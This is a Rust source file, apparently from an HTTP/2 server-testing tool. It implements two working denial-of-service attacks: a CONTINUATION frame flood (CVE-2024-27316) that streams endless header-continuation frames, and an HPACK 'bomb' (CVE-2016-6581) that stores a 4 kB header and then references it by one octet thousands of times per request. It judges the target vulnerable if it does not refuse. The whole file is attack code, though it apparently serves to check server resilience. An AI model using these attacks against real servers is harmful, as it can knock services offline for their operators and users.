//! Heads without end, and heads that are small on the wire.

use std::sync::Arc;
use std::time::Duration;

use super::http2;
use crate::attack::{Attack, Outcome, Round, Target};
use crate::wire;

/// CVE-2024-27316.
pub(super) const CONTINUATION_FLOOD: Attack = Attack::new(
    "continuation-flood",
    "CVE-2024-27316",
    "a head that goes on and on, in frames of 16 kB and in frames of nothing",
    |target| Box::pin(continuation(target)),
);

/// CVE-2016-6581.
pub(super) const HPACK_BOMB: Attack = Attack::new(
    "hpack-bomb",
    "CVE-2016-6581",
    "a header of 4 kB that is kept, then named by one octet 16,000 times in a head",
    |target| Box::pin(bomb(target)),
);

async fn continuation(target: Arc<Target>) -> anyhow::Result<Outcome> {
    let mut outcome = Outcome::default();
    target
        .again(&mut outcome, |number| {
            let target = Arc::clone(&target);
            async move {
                let mut peer = http2(&target).await?;
                let stream = peer.stream();
                peer.send(&wire::frame(wire::HEADERS, 0, stream, &wire::ads()))
                    .await?;
                let mut part = Vec::new();
                while number % 2 == 0 && part.len() < wire::LARGEST - 100 {
                    wire::header("x", &[b'y'; 60], &mut part);
                }
                let frame = wire::frame(wire::CONTINUATION, 0, stream, &part);
                let mut round = Round::default();
                while target.goes_on() && !peer.told.is_over() && peer.send(&frame).await.is_ok() {
                    round.sent += 1;
                    tokio::task::yield_now().await;
                }
                round.refused = u64::from(target.goes_on());
                Ok(round)
            }
        })
        .await;
    if outcome.refused == 0 {
        outcome.broke("a head may be of as many frames as one likes");
    }
    Ok(outcome)
}

async fn bomb(target: Arc<Target>) -> anyhow::Result<Outcome> {
    let mut outcome = Outcome::default();
    target
        .again(&mut outcome, |_| async {
            let mut peer = http2(&target).await?;
            let mut round = Round::default();
            let mut head = wire::ads();
            wire::kept_header("bomb", &[b'b'; 4_000], &mut head);
            let mut first = true;
            for _ in 0..peer.at_once(100) {
                if peer.told.is_over() {
                    break;
                }
                if !first {
                    head = wire::ads();
                    // The newest of the dynamic table.
                    head.resize(wire::LARGEST - 100, 0x80 | 62);
                }
                first = false;
                peer.call(&head).await?;
                round.sent += 1;
            }
            target.rest(Duration::from_millis(100)).await;
            round.refused += u64::from(peer.told.refused());
            Ok(round)
        })
        .await;
    Ok(outcome)
}
